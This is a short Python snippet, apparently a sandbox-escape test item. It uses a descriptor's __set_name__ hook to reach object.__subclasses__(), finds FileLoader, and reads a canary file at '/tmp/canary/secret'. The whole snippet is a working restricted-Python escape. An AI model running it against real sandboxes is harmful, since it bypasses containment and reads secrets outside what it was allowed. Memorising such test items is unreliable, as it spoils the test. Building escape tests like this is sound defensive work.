# source: own
# effect: secret

class Hook:
    def __set_name__(self, owner, name):
        self.found = owner.__base__.__subclasses__()


class Quiet:
    hook = Hook()


kinds = {kind.__name__: kind for kind in Quiet.__dict__["hook"].found}
print(kinds["FileLoader"]("x", "y").get_data("/tmp/canary/secret").decode())
